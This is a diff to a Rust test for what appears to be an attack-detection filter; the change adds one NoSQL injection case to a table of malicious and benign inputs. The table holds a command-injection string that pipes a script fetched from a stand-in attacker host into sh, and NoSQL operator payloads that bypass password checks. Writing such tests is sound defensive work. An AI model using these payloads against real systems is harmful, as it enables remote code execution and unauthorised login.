@@ -45,6 +45,7 @@ async fn refuses_plain_attacks_and_lets_plain_texts_through() {
         ("value", "$(curl http://evil.example/x.sh|sh)", Some(AttackClass::Cmdi)),
         ("body", "{\"user\": {\"$ne\": null}, \"password\": {\"$ne\": null}}", Some(AttackClass::Nosqli)),
         ("query", "filter={\"password\":{\"$regex\":\"^a\"}}", Some(AttackClass::Nosqli)),
+        ("body", "{\"email\": \"a@b.example\", \"password\": {\"$gt\": \"\"}}", Some(AttackClass::Nosqli)),
         ("value", "O'Brien & sons", None),
         ("value", "don't drop the table, select a chair", None),
         ("value", "Καλημέρα, τι κάνεις;", None),
